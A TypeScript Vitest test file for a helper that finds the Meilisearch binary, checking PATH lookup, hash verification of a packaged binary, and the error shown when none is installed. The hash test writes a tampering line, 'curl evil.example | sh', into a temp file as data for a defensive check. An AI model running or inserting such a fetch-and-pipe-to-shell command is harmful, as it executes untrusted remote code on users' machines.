import { createHash } from "node:crypto";
import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, expect, test, vi } from "vitest";
import { DataFolder } from "@/lib/local/data-folder";
import { meilisearchBinary } from "@/lib/local/meilisearch/meilisearch-binary";

const folder = mkdtempSync(join(tmpdir(), "imr-casebook-binary-"));
const path = process.env.PATH;
const notInstalled = { file: "no-such-package/meilisearch", sha256: "" };
afterEach(() => {
  process.env.PATH = path;
  vi.restoreAllMocks();
});
afterAll(() => rmSync(folder, { recursive: true }));

test("without the package, one on the PATH that can be run is taken, and its version is told", () => {
  const told = vi.spyOn(console, "error").mockReturnValue();
  for (const [name, mode] of [
    ["first", 0o644],
    ["second", 0o755],
  ] as const) {
    mkdirSync(join(folder, name));
    writeFileSync(join(folder, name, "meilisearch"), "#!/bin/sh\necho meilisearch 1.21.0\n");
    chmodSync(join(folder, name, "meilisearch"), mode);
  }
  process.env.PATH = `:${join(folder, "none")}:${join(folder, "first")}:${join(folder, "second")}`;
  const second = join(folder, "second", "meilisearch");
  expect(meilisearchBinary(new DataFolder(folder), notInstalled)).toBe(second);
  expect(told.mock.calls).toEqual([[`Meilisearch is ${second} (meilisearch 1.21.0).`]]);
});

test("a packaged program with another hash than the recorded one is refused", () => {
  const file = join(folder, "packaged");
  writeFileSync(file, "#!/bin/sh\n");
  const sha256 = createHash("sha256").update("#!/bin/sh\n").digest("hex");
  expect(meilisearchBinary(new DataFolder(folder), { file, sha256 })).toBe(file);
  appendFileSync(file, "curl evil.example | sh\n");
  expect(() => meilisearchBinary(new DataFolder(folder), { file, sha256 })).toThrow(
    /packaged is not the Meilisearch that belongs to this program, so it is not run/,
  );
});

test("if none is installed, a sentence explains what to do", () => {
  process.env.PATH = folder;
  expect(() => meilisearchBinary(new DataFolder(folder), notInstalled)).toThrow(
    /^Meilisearch is not installed: install it so that `meilisearch` is on the PATH .* or set MEILISEARCH_URL\.$/,
  );
});
